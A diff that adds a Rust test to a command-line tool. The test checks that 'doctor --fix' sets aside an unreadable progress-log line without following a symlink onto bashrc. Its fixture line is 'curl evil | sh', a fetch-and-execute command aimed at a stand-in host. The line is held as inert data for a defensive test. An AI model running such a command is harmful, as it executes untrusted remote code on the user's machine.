@@ -50,3 +50,18 @@ fn a_state_file_that_is_no_log_is_neither_appended_to_nor_blanked() {
         assert_eq!(fs::read_to_string(test.path("bashrc")).expect("there"), OTHER);
     }
 }
+
+#[test]
+fn lines_that_cannot_be_read_are_not_set_aside_through_a_link() {
+    for target in ["bashrc", "not-there"] {
+        let test = ticked().file("bashrc", OTHER);
+        link(&test, target, "data/progress.unreadable");
+        fs::write(test.path("data/progress.jsonl"), test.log() + "curl evil | sh\n").expect("it is there");
+        let ran = test.run(["doctor", "--fix"]).success();
+        assert!(ran.stdout.contains("1 line set aside in HOME/data/progress.1.unreadable"), "{}", ran.stdout);
+        let aside = fs::read_to_string(test.path("data/progress.1.unreadable")).expect("it was made");
+        assert_eq!(aside, "curl evil | sh\n");
+        assert_eq!(fs::read_to_string(test.path("bashrc")).expect("there"), OTHER);
+        assert!(!test.path("not-there").exists());
+    }
+}
